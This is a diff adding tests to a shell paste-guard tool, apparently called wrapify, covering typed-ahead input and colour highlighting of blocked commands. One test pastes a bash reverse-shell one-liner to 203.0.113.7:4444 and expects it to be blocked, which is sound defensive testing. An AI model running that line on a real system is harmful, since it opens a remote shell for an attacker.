@@ -37,6 +37,32 @@ def test_what_came_with_the_paste_is_told_and_stays(wrapify: Wrapify, name: str)
         assert not shell.made("second")
 
 
+def test_what_was_typed_ahead_is_told_and_stays(wrapify: Wrapify, name: str) -> None:
+    wrapify.put("bin/timeout", '#!/bin/sh\nuntil [ -e ~/go ]; do sleep 0.01; done; exec /usr/bin/timeout "$@"\n', 0o755)
+    tall = "function fish_prompt; echo top; echo -n 'ready> '; end; set -gx PATH ~/bin $PATH"
+    with opened(wrapify, name, after=tall) as shell:
+        shell.ready()
+        shell.paste("sudo touch first")
+        shell.keys("Enter")
+        shell.look()
+        shell.type("touch ahead", enter=False)
+        shell.look()
+        wrapify.put("go", "")
+        shell.answer("e")
+        until(lambda: shell.lines()[-2:] == ["top", "ready> sudo touch first"], shell.screen)
+        assert shell.lines()[-3] == "wrapify: also came, and was not run: touch ahead"
+
+
+def test_what_is_blocked_is_told_in_colour(wrapify: Wrapify, name: str) -> None:
+    with opened(wrapify, name) as shell:
+        shell.ready()
+        shell.paste("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
+        shell.keys("Enter")
+        shell.contains("Blocked")
+        shown = shell.tmux("capture-pane", "-p", "-e").partition("Blocked")[0]
+        assert "1m" in shown.rpartition("\n")[2]
+
+
 def test_an_open_pager_lets_no_paste_by(wrapify: Wrapify, name: str) -> None:
     for one in ("pager1", "pager2"):
         wrapify.put(one, "")
